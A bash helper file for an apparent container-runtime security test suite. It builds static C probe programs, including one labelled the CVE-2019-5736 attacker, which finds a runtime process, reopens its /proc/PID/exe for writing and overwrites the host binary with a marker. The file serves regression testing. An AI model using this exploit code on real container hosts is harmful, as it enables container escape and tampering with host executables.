#!/bin/bash
# security_helpers.bash - shared machinery of security.bats, faults.bats and
# hostile.bats (issue 6): small static C witnesses built once per bats run,
# a runtime wrapper bound to the test's own --root, waiting helpers, and the
# "planted" host files whose hash must not change.
#
# runc counterpart: none as such; runc's CVE regression tests live in
# tests/integration/{cve-2019-5736,cwd,fd}.bats-like files and use helper
# binaries the same way.  Written anew.
#
# Loaded after helpers.bash (`load helpers` then `load security_helpers`).

# ------------------------------------------------------------ C witnesses

# sec_try MODE PATH [MODE PATH...]: what happens when a process opens PATH.
#   r: open O_RDONLY   w: open O_WRONLY   l: readlink   L: list a directory
#   c: chdir to it, then print the raw getcwd(2)
# One line per path: "PATH ok", "PATH ERRNAME", "PATH -> TARGET",
# "PATH entries N" or "PATH cwd RAW".  A mode letter switches the mode for
# the paths after it.
sec_try_src() {
	cat <<'EOF'
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
static const char *en(int e)
{
	static char b[32];
	switch (e) {
	case EACCES: return "EACCES"; case EPERM: return "EPERM"; case ENOENT: return "ENOENT";
	case ETXTBSY: return "ETXTBSY"; case ELOOP: return "ELOOP"; case ENOTDIR: return "ENOTDIR";
	case EROFS: return "EROFS"; case EBADF: return "EBADF"; case EXDEV: return "EXDEV";
	}
	snprintf(b, sizeof(b), "errno%d", e);
	return b;
}
int main(int argc, char **argv)
{
	char mode = 'r', buf[4096];
	for (int i = 1; i < argc; i++) {
		const char *p = argv[i];
		int fd, n = 0;
		if (strlen(p) == 1) { mode = p[0]; continue; }
		if (mode == 'l') {
			ssize_t k = readlink(p, buf, sizeof(buf) - 1);
			if (k < 0) { printf("%s %s\n", p, en(errno)); continue; }
			buf[k] = 0; printf("%s -> %s\n", p, buf); continue;
		}
		if (mode == 'c') {
			long k;
			if (chdir(p) < 0) { printf("%s %s\n", p, en(errno)); continue; }
			k = syscall(SYS_getcwd, buf, sizeof(buf));
			printf("%s cwd %s\n", p, k > 0 ? buf : en(errno));
			chdir("/");
			continue;
		}
		if (mode == 'L') {
			DIR *d = opendir(p);
			struct dirent *de;
			if (!d) { printf("%s %s\n", p, en(errno)); continue; }
			errno = 0;
			while ((de = readdir(d)))
				if (de->d_name[0] != '.') n++;
			printf("%s entries %d%s%s\n", p, n, errno ? " " : "", errno ? en(errno) : "");
			closedir(d);
			continue;
		}
		fd = open(p, mode == 'w' ? O_WRONLY : O_RDONLY);
		printf("%s %s\n", p, fd < 0 ? en(errno) : "ok");
		if (fd >= 0) close(fd);
	}
	return 0;
}
EOF
}

# sec_ow WHO FIFO: the CVE-2019-5736 attacker.  Waits (10 s at most) for a
# process whose argv[0] is WHO (or the pid N when WHO is "pid:N"), opens its
# /proc/PID/exe read-only, prints "exe PID -> TARGET", opens FIFO (unless
# "-"; that process blocks writing to it) to let it go on, then for 8 s
# tries to reopen the exe for writing (ETXTBSY while anything still runs it)
# and write into it.  Prints what it saw and "RESULT wrote" or
# "RESULT <where> <errno>".
sec_ow_src() {
	cat <<'EOF'
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
static void nap(void) { struct timespec t = {0, 2000000}; nanosleep(&t, NULL); }
static int find(const char *prefix)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	int found = 0;
	while (d && !found && (de = readdir(d))) {
		char path[64], cmd[256] = "";
		int pid = atoi(de->d_name), fd;
		if (pid <= 0 || pid == getpid()) continue;
		snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
		fd = open(path, O_RDONLY);
		if (fd < 0) continue;
		if (read(fd, cmd, sizeof(cmd) - 1) > 0 && strcmp(cmd, prefix) == 0) found = pid;
		close(fd);
	}
	if (d) closedir(d);
	return found;
}
int main(int argc, char **argv)
{
	char path[64], target[4096];
	int pid = 0, fd = -1, w;
	ssize_t n;
	if (argc < 3) return 2;
	for (int i = 0; i < 2000 && fd < 0; i++) {
		if (!pid) pid = strncmp(argv[1], "pid:", 4) ? find(argv[1]) : atoi(argv[1] + 4);
		if (pid) {
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			fd = open(path, O_RDONLY);
		}
		if (fd < 0) nap();
	}
	if (fd < 0) { printf("RESULT open-exe %s pid %d\n", strerror(errno), pid); return 1; }
	n = readlink(path, target, sizeof(target) - 1);
	target[n > 0 ? n : 0] = 0;
	printf("exe %d -> %s\n", pid, target);
	w = open(path, O_WRONLY);
	printf("direct open for writing: %s\n", w < 0 ? strerror(errno) : "ok");
	fflush(stdout);
	if (w >= 0) close(w);
	if (strcmp(argv[2], "-") != 0) close(open(argv[2], O_RDONLY | O_NONBLOCK));
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 4000; i++) {
		w = open(path, O_WRONLY);
		if (w >= 0 || errno != ETXTBSY) break;
		nap();
	}
	if (w < 0) { printf("RESULT reopen %s\n", strerror(errno)); return 0; }
	if (write(w, "\177ELF-PWNED-BY-THE-CONTAINER", 28) != 28) {
		printf("RESULT write %s\n", strerror(errno));
		return 0;
	}
	printf("RESULT wrote\n");
	return 0;
}
EOF
}

# sec_build NAME: the static witness $SEC_BIN/NAME (built once per run).
sec_build() {
	SEC_BIN=${BATS_RUN_TMPDIR:-/tmp}/sec-bin
	mkdir -p "$SEC_BIN"
	(
		flock 9
		[ -x "$SEC_BIN/$1" ] && exit 0
		local cc=musl-gcc
		command -v musl-gcc >/dev/null || cc=gcc
		"sec_$1_src" >"$SEC_BIN/$1.c"
		"$cc" -std=c11 -D_GNU_SOURCE -static -O2 -o "$SEC_BIN/$1.tmp" "$SEC_BIN/$1.c" &&
			mv "$SEC_BIN/$1.tmp" "$SEC_BIN/$1"
	) 9>"$SEC_BIN/.lock"
	[ -x "$SEC_BIN/$1" ]
}

# sec_install NAME...: the witnesses into the bundle's /bin.
sec_install() {
	local n
	for n in "$@"; do
		sec_build "$n" || return 1
		cp "$SEC_BIN/$n" "$B/rootfs/bin/$n"
	done
}

# --------------------------------------------------------------- running

# mr ARGS...: $MINIRUNC with this test's own --root.
mr() {
	"$MINIRUNC" --root "$T/root-mr" "$@"
}

# mr_pid [ID]: the host pid of a container's init, from `state`.
mr_pid() {
	mr state "${1:-$ID}" | python3 -c 'import json,sys; print(json.load(sys.stdin)["pid"])'
}

# wait_for CMD...: retry CMD for 10 s (every 0.05 s).
wait_for() {
	local i
	for i in $(seq 200); do
		"$@" && return 0
		sleep 0.05
	done
	return 1
}

# sha FILE: its sha256 alone.
sha() {
	sha256sum "$1" | cut -d' ' -f1
}

# no_dev_tmpfs: drop the /dev tmpfs of the default spec, so that what the
# test plants in rootfs/dev is what the runtime meets.
no_dev_tmpfs() {
	cfg "$B" 'c["mounts"] = [m for m in c["mounts"] if m["destination"] != "/dev"]'
}

# busybox_links NAME...: more busybox applets in the bundle.
busybox_links() {
	local a
	for a in "$@"; do
		ln -sf busybox "$B/rootfs/bin/$a"
	done
}
